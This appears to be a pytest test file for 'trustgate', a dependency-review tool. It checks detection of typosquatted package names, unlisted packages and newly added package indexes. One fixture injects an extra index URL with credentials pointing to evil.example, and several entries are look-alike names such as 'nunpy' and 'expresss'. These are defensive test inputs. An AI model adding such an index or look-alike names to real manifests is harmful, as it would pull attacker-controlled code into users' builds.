"""The analyzer end to end, on change sets held in memory."""

from __future__ import annotations

import json
from typing import Any

import pytest

from trustgate.analyzers.context import Outcome
from trustgate.finding import Confidence, Finding, NotChecked, Skip

BASE = "requests==2.32.3\n"
NO_DATABASE = NotChecked("advisories", "no advisory database yet: `trustgate advisories update` makes one")


def rules(outcomes: list[Outcome]) -> list[tuple[str, str, int]]:
    return [(one.rule, one.location.path, one.location.line) for one in outcomes if isinstance(one, Finding)]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        pytest.param({"a.py": "x"}, {"a.py": "y"}, id="no manifest"),
        pytest.param({"requirements.txt": BASE}, {"requirements.txt": "# c\n" + BASE}, id="a comment"),
        pytest.param({"requirements.txt": BASE}, {"requirements.txt": "requests==2.33.0\n"}, id="a version"),
        pytest.param({"requirements.txt": BASE}, {}, id="a manifest removed"),
        pytest.param({"requirements.txt": BASE + "nunpy\n"}, {"requirements.txt": BASE}, id="an entry removed"),
        pytest.param({"requirements.txt": "nunpy\n"}, {"base/requirements.txt": "nunpy\n"}, id="a manifest moved"),
        pytest.param({"requirements.txt": "nunpy\n"}, {"pyproject.toml": '[project]\ndependencies = ["nunpy"]\n'}, id="an entry moved to another format"),
        pytest.param({"dev-requirements.txt": "nunpy\n", "requirements.txt": BASE}, {"dev-requirements.txt": "nunpy\n", "requirements.txt": BASE + "nunpy\n"}, id="a name that another manifest declares"),
        pytest.param({"ui/package.json": '{"name": "expresss"}', "package.json": "{}"}, {"ui/package.json": '{"name": "expresss"}', "package.json": '{"dependencies": {"expresss": "*"}}'}, id="a member of the repository"),
        pytest.param({"package.json": "{}"}, {"ui/package.json": '{"name": "quiet-otter-ui"}', "package.json": '{"dependencies": {"quiet-otter-ui": "*"}}'}, id="a new member of the repository"),
        pytest.param({"words.txt": "a\n"}, {"words.txt": "nunpy\nreqeusts\n"}, id="a list of words"),
    ],
)  # fmt: skip
def test_left_alone(before: dict[str, str], after: dict[str, str], run: Any) -> None:
    assert [one for one in run(before, after) if one != NO_DATABASE] == []


def test_a_changed_pin_without_a_database_is_said(run: Any) -> None:
    assert run({"requirements.txt": BASE}, {"requirements.txt": "requests==2.33.0\n"}) == [NO_DATABASE]


def test_one_finding_a_name_at_its_line(run: Any) -> None:
    after = "requests==2.32.3\nflask\nnunpy==1\nflask-quiet-otter-guard\npytest-flask-sqlalchemy\n"
    found = run({"requirements.txt": BASE}, {"requirements.txt": after, "dev/requirements.txt": "nunpy\n"})
    assert rules(found) == [
        ("dependency-look-alike", "dev/requirements.txt", 1),
        ("dependency-new", "requirements.txt", 2),
        ("dependency-not-listed", "requirements.txt", 4),
        ("dependency-new-tail", "requirements.txt", 5),
    ]


def test_a_member_that_looks_like_a_popular_package_is_not_believed(run: Any) -> None:
    after = {"x/package.json": '{"name": "expresss"}', "package.json": '{"dependencies": {"expresss": "*"}}'}
    assert rules(run({"package.json": "{}"}, after)) == [("dependency-look-alike", "package.json", 1)]


def test_a_manifest_counts_before_the_lock_that_repeats_it(run: Any) -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {"": {"dependencies": {"expresss": "1"}}, "node_modules/expresss": {"version": "1.0.0"}},
    }
    found = run({}, {"package.json": '{"dependencies": {"expresss": "1"}}', "package-lock.json": json.dumps(lock)})
    assert rules(found) == [("dependency-look-alike", "package.json", 1)]


def test_a_look_alike_is_sure_only_when_more_than_the_name_says_so(run: Any, configured: Any) -> None:
    offline = run({}, {"requirements.txt": "nunpy\n"})
    online = run({}, {"requirements.txt": "nunpy\n"}, offline=False)
    grades = [[one.confidence for one in found if isinstance(one, Finding)] for found in (offline, online)]
    assert grades == [[Confidence.MEDIUM], [Confidence.HIGH]]
    assert configured.asked == ["nunpy"]


def test_private_and_trusted_names_are_never_asked_for(run: Any, configured: Any) -> None:
    found = run(
        {},
        {"requirements.txt": "acme-x\nnunpy\n"},
        offline=False,
        private_names=("acme-*",),
        trusted_packages=("pypi:nunpy",),
    )
    assert rules(found) == [("dependency-new-tail", "requirements.txt", 1)]
    assert configured.asked == []


def test_what_could_not_be_looked_up_is_said_once(run: Any) -> None:
    found = run({}, {"package.json": '{"dependencies": {"otter-aa": "1", "otter-bb": "1"}}'})
    said = [(one.what, one.reason) for one in found if isinstance(one, NotChecked)]
    assert said.count(("existence:npm", "npm: no complete offline list")) == 1
    assert [what for what, _ in said] == ["existence:npm", "metadata"]


def test_an_unreachable_index_is_said_and_the_bundled_list_still_counts(run: Any, configured: Any) -> None:
    configured.status = 500
    found = run({}, {"requirements.txt": "flask-quiet-otter-guard\n"}, offline=False)
    assert rules(found) == [("dependency-not-listed", "requirements.txt", 1)]
    assert any(isinstance(one, NotChecked) and "unreachable" in one.reason for one in found)


@pytest.mark.parametrize(
    ("path", "text", "place"),
    [
        pytest.param("package.json", '{\n"a": }', "package.json:2", id="broken JSON"),
        pytest.param("pyproject.toml", "a = 1\nb = \n", "line 2", id="broken TOML"),
        pytest.param("uv.lock", "version = 9\n[[package]]\nname = 'a'\n", "version 9", id="an unknown lock version"),
        pytest.param("requirements.txt", BASE + "!!!\n", "requirements.txt:2", id="a bad line"),
        pytest.param("requirements.txt", "a\0b\n", "binary", id="binary"),
    ],
)
def test_a_manifest_that_cannot_be_read_is_no_clean_one(path: str, text: str, place: str, run: Any) -> None:
    skips = [one for one in run({}, {path: text}) if isinstance(one, Skip)]
    assert [(one.error, one.path) for one in skips] == [(True, path)]
    assert place in skips[0].reason


def test_a_bad_line_that_stood_there_before_is_a_note(run: Any) -> None:
    found = run({"requirements.txt": "!!!\n" + BASE}, {"requirements.txt": "!!!\nrequests==2.33.0\n"})
    assert found == [NotChecked("manifest-entry", "requirements.txt:1: not a requirement"), NO_DATABASE]


def test_formats_that_are_not_read_are_named(run: Any) -> None:
    found = run({"mix.lock": "x"}, {"mix.exs": "x\n", "bun.lockb": "x", "{{x}}/package.json": "{{"})
    assert found == [
        Skip("dependencies", "bun.lockb: a binary lock file of a format that is not read (bun.lockb)", "bun.lockb"),
        NotChecked("manifest-format", "mix.exs: format not read yet"),
        NotChecked("manifest-format", "{{x}}/package.json: a template; its placeholders are not filled in"),
    ]


def test_what_an_included_file_of_any_name_brings(run: Any) -> None:
    before = {"requirements.txt": "-r nested/req.txt\n", "nested/req.txt": BASE}
    after = {**before, "nested/req.txt": "--extra-index-url https://u:p@evil.example/simple\n" + BASE + "nunpy\n"}
    assert rules(run(before, after)) == [
        ("dependency-index-added", "nested/req.txt", 1),
        ("dependency-look-alike", "nested/req.txt", 3),
    ]
    later = {"requirements.txt": BASE + "-r extra.in\n", "extra.in": "nunpy\n"}
    found = run({"requirements.txt": BASE, "extra.in": "nunpy\n"}, later)
    assert rules(found) == [("dependency-look-alike", "extra.in", 1)]


def test_a_fingerprint_does_not_hang_on_lines(run: Any) -> None:
    prints = [
        next(one.fingerprint for one in run({}, {"requirements.txt": text}) if isinstance(one, Finding))
        for text in ("nunpy\n", "\n\n# c\nnunpy==2\n")
    ]
    assert prints[0] == prints[1]


def test_transitive_names_are_one_line_and_suspects_still_stand_out(run: Any) -> None:
    packages = {f"node_modules/quiet-otter-{number}": {"version": "1.0.0"} for number in range(30)}
    lock = {"lockfileVersion": 3, "packages": {"": {}, **packages, "node_modules/lodahs": {"version": "1.0.0"}}}
    found = run({}, {"package-lock.json": json.dumps(lock, indent=1)})
    names = [rule for rule, _, _ in rules(found)]
    assert names == ["dependency-look-alike", "dependency-new-transitive"]


def test_a_flood_of_new_names_is_cut_and_said(run: Any) -> None:
    text = "".join(f"{number}-{number}\n" for number in range(10_000, 13_500))
    found = run({}, {"requirements.txt": text})
    assert [one.reason for one in found if isinstance(one, Skip)] == [
        "3500 new packages outside the top list: 500 of them were not judged"
    ]
    assert len(rules(found)) == 3000


def test_nothing_heavy_is_loaded_where_no_manifest_changed() -> None:
    import subprocess
    import sys

    script = (
        "import sys\n"
        "from trustgate.analyzers.context import Context\n"
        "from trustgate.analyzers import dependencies\n"
        "from trustgate.changes.memory import change_between\n"
        "from trustgate.facts import FileView\n"
        "from trustgate.rulebook import Rulebook\n"
        "change = change_between({}, {'a.py': b'x', 'requirements.txt': b'nunpy'} if len(sys.argv) > 1 else {'a.py': b'x'})\n"
        "views = tuple(FileView(item, change) for item in change.files)\n"
        "try:\n"
        "    list(dependencies.analyze(Context(change, views, Rulebook({}, ''))))\n"
        "except Exception as error:\n"
        "    print(type(error).__name__)\n"
        "print(sorted({name.partition('.')[0] for name in sys.modules} & {'httpx', 'rapidfuzz', 'packaging', 'yaml'}))\n"
        "print('trustgate.analyzers.dependencies.review' in sys.modules)\n"
    )
    quiet = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout
    assert quiet == "[]\nFalse\n"
    busy = subprocess.run([sys.executable, "-c", script, "x"], capture_output=True, text=True, check=True).stdout
    assert busy == "ConfigError\n[]\nTrue\n"
